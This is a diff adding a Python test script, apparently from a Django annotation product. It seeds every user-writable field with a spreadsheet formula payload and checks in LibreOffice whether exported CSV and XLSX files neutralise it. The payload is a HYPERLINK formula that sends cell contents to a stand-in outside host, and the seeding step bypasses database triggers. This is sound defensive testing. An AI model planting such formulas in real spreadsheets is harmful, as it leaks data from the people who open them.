@@ -1,0 +1,207 @@
+"""Open every CSV and XLSX that leaves the product in LibreOffice and count the formulas that are alive.
+
+    .venv/bin/python bench/spreadsheets.py        (needs LibreOffice: apt-get install libreoffice-calc)
+
+Every text of a small study is a formula: names, keys, criteria, tags, notes, answers. Every door that answers with a
+table is asked, and every command that writes one. LibreOffice is told to evaluate formulas in CSV, which it does not
+do by itself; a file that no writer of ours has made proves that it can. JSON must hold the texts as they are.
+"""
+
+from __future__ import annotations
+
+import io
+import re
+import shutil
+import subprocess
+import sys
+import zipfile
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
+
+from bench.scratch import scratch_product, show
+
+FORMULA = '=HYPERLINK("http://outside.example/?"&A1;"open")'
+# separator, quote, UTF-8, from line 1, no column formats, language, nothing quoted is text, detect numbers,
+# contents, no export of formulas, keep blanks, first sheet, evaluate formulas
+EVALUATING = "CSV:44,34,76,1,,0,false,true,false,false,false,0,true"
+ALIVE = re.compile(rb'table:formula="')
+# Texts that programs compare: names of states and kinds, addresses, digests, what stands in URLs.
+NOT_WORDS = re.compile(
+    r"(^|_)(id|slug|email|username|password|status|kind|digest|sha256|hash|language|stage|outcome|setting|track|purpose|"
+    r"scope|code|version|role|token|key_hash|url|file|method|rule|state|mode|provenance|country|timezone|ending|part)$"
+)
+OWN_APPS = ("accounts", "rubrics", "annotation", "scoring", "agreement", "releases")
+TABLES = ("text/csv", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
+
+
+def main() -> None:
+    """Make the study, collect the files, open them, and print what was found."""
+    office = shutil.which("soffice") or sys.exit("LibreOffice is not installed: apt-get install libreoffice-calc")
+    with scratch_product() as home:
+        folder = home / "exports"
+        folder.mkdir()
+        # A control: LibreOffice does run what stands in a CSV that nobody made inert.
+        (folder / "control.csv").write_text(f'name\n"{FORMULA.replace(chr(34), chr(34) * 2)}"\n')
+        collect(folder)
+        rows = list(opened(office, folder))
+    control = next(row for row in rows if row[0] == "control.csv")
+    others = [row for row in rows if row is not control]
+    show("Exports opened in LibreOffice", ("file", "payloads", "live formulas"), others)
+    print(
+        f"{len(others)} files with {sum(row[1] for row in others):,} payloads: {sum(row[2] for row in others)} live "
+        f"formulas; the control has {control[2]}"
+    )
+
+
+def collect(folder: Path) -> None:
+    """Write every table of a poisoned study into ``folder``."""
+    import factory.random
+    from django.conf import settings
+    from django.test import Client
+    from django.urls import reverse
+
+    settings.ALLOWED_HOSTS = ["*"]
+    settings.SECURE_SSL_REDIRECT = False
+    settings.CELERY_TASK_ALWAYS_EAGER = True
+    factory.random.reseed_random(1)
+    from tests.access.doors import DOORS
+    from tests.access.world import build_world
+
+    world = build_world()
+    poison()
+    again(world)
+    unpoisoned_json = []
+    clients: dict[str, Client] = {}
+    for name, door in DOORS.items():
+        if door.framework or door.writes_only:
+            continue
+        role = next((role for role in ("admin", "researcher", "author", *sorted(door.roles)) if role in door.roles), "")
+        user = world.users.get(role)
+        if user is None:
+            continue
+        if role not in clients:
+            clients[role] = Client(raise_request_exception=False)
+            user.refresh_from_db()
+            clients[role].force_login(user)
+        answer = clients[role].get(reverse(name, kwargs=door.arguments(world) if door.arguments else None))
+        kind = answer.headers.get("Content-Type", "").partition(";")[0]
+        if answer.status_code != 200:
+            print(f"{name}: {answer.status_code}", file=sys.stderr)
+            continue
+        data = b"".join(answer.streaming_content) if answer.streaming else answer.content  # type: ignore[arg-type]
+        if kind in TABLES:
+            (folder / f"{name.replace(':', '_')}.{'csv' if kind == 'text/csv' else 'xlsx'}").write_bytes(data)
+        elif kind == "application/zip":
+            unpack(data, folder, name.replace(":", "_"))
+        elif "json" in kind and b"'=HYPERLINK" in data:
+            unpoisoned_json.append(name)
+    commands(folder, world)
+    print(f"JSON answers in which a text was changed: {unpoisoned_json or 'none'}")
+
+
+def poison() -> None:
+    """Make a formula of every text that a person or a file may have written, past the triggers that forbid it."""
+    from django.apps import apps
+    from django.contrib.postgres.fields import ArrayField
+    from django.db import connection, models
+
+    with connection.cursor() as cursor:
+        cursor.execute("SET session_replication_role = replica")
+        for model in (model for label in OWN_APPS for model in apps.get_app_config(label).get_models()):
+            if not model._meta.managed or "Event" in model.__name__:
+                continue
+            changes = []
+            for field in model._meta.local_fields:
+                if NOT_WORDS.search(field.name) or field.choices or field.primary_key:
+                    continue
+                if isinstance(field, models.TextField | models.CharField) and (field.max_length or 999) >= 90:
+                    changes.append(f'"{field.column}" = \'{FORMULA}&\' || "{model._meta.pk.column}"')
+                elif isinstance(field, ArrayField) and field.name in ("tags", "label_tags"):
+                    changes.append(f"\"{field.column}\" = ARRAY['{FORMULA}', 'axis:{FORMULA}']")
+            if changes:
+                cursor.execute(f'UPDATE "{model._meta.db_table}" SET {", ".join(changes)}')
+        cursor.execute("SET session_replication_role = DEFAULT")
+
+
+def again(world: Any) -> None:
+    """Compute the reports once more: what is stored holds the names of before."""
+    from django.utils import timezone
+
+    from agreement import services
+    from annotation.models import ExpertGroup
+    from scoring.models import Judge
+
+    group = ExpertGroup.objects.get(pk=world.groups["A"].pk)
+    judge = Judge.objects.get(pk=world.judge.pk)
+    parameters = {**world.report.parameters, "rater_a": f"group:{group.name}@first", "rater_b": judge.name}
+    for attribute, kind in (("report", "agreement"), ("items", "items")):
+        report = services.create_report(
+            benchmark=world.benchmark, kind=kind, at=timezone.now(), by=world.users["admin"], parameters=parameters
+        )
+        services.run(report_id=report.pk, clock=timezone.now)
+        report.refresh_from_db()
+        print(f"{kind}: {report.status}", file=sys.stderr)
+        setattr(world, attribute, report)
+
+
+def commands(folder: Path, world: Any) -> None:
+    """What the command line writes."""
+    from django.core.management import call_command
+
+    group = world.groups["A"].__class__.objects.get(pk=world.groups["A"].pk).name
+    judge = world.judge.__class__.objects.get(pk=world.judge.pk).name
+    slug = ["--benchmark", world.benchmark.slug]
+    rater = f"group:{group}@first"
+    for name, arguments in {
+        "agreement": ["--rater", rater, "--rater", judge, "--out", str(folder / "agreement")],
+        "scores": ["--rater", rater, "--k", "1", "--out", str(folder / "scores")],
+        "export_decisions": ["--rater", rater, "--out", str(folder / "decisions.csv")],
+    }.items():
+        try:
+            call_command(name, *slug, *arguments, stdout=io.StringIO(), stderr=io.StringIO())
+        except Exception as error:  # a command that fails is told of, the others still count
+            print(f"{name}: {error}", file=sys.stderr)
+    for path in list(folder.glob("*/*.csv")):
+        path.rename(folder / f"{path.parent.name}_{path.name}")
+
+
+def unpack(data: bytes, folder: Path, name: str) -> None:
+    """Take the tables out of an archive of ours."""
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        for member in archive.namelist():
+            if member.endswith((".csv", ".xlsx")):
+                (folder / f"{name}_{member.replace('/', '_')}").write_bytes(archive.read(member))
+
+
+def opened(office: str, folder: Path) -> Iterator[tuple[str, int, int]]:
+    """(file, payloads in it, formulas that LibreOffice found in it) for each."""
+    target, profile = folder / "opened", folder / "profile"
+    base = [
+        office,
+        f"-env:UserInstallation=file://{profile}",
+        "--headless",
+        "--convert-to",
+        "fods",
+        "--outdir",
+        str(target),
+    ]
+    for ending, options in (("csv", [f"--infilter={EVALUATING}"]), ("xlsx", [])):
+        files = sorted(folder.glob(f"*.{ending}"))
+        if files:
+            subprocess.run(
+                [*base, *options, *map(str, files)], check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
+            )
+        for path in files:
+            data = path.read_bytes()
+            if ending == "xlsx":
+                with zipfile.ZipFile(path) as archive:
+                    data = b"".join(archive.read(name) for name in archive.namelist())
+            found = (target / f"{path.stem}.fods").read_bytes()
+            yield path.name, data.count(b"HYPERLINK("), len(ALIVE.findall(found))
+
+
+if __name__ == "__main__":
+    main()
